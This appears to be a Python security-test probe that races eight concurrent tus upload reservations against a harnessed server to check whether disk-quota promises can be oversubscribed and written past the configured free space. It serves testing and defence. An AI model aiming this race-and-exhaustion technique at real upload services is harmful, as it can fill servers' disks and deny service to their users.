from __future__ import annotations

import shutil
from concurrent.futures import ThreadPoolExecutor


def attack(site):
    people = ["ann@example.org", "bob@example.org"]
    for number, who in enumerate(people):
        site.ask("POST", "/api/v1/teams", who, values={"name": f"Disk {'AB'[number]}"})
    free = shutil.disk_usage(site.state).free
    size = min(4 << 30, free // 4)
    site.configure(free_gib=(free - 3 * size) / (1 << 30))
    with ThreadPoolExecutor(8) as pool:
        found = list(pool.map(lambda number: site.begin(people[number % 2], size), range(8)))
    places = [(people[number % 2], one.headers["location"]) for number, one in enumerate(found) if one.status == 201]
    if len(places) > 1:
        yield f"GOT {len(places)} promises of twice {size} bytes each, with three times as many free"
    headers = {"Tus-Resumable": "1.0.0", "Upload-Offset": "0", "Content-Type": "application/offset+octet-stream"}
    site.configure(free_gib=1e6)
    for who, place in places:
        wrote = site.ask("PATCH", place, who, data=bytes(2 << 20), headers=headers).status
        if wrote < 400:
            yield "GOT bytes written beyond free_gib"
        yield f"accepted {len(places)} of 8, then {wrote}"
        site.ask("DELETE", place, who, headers={"Tus-Resumable": "1.0.0"})
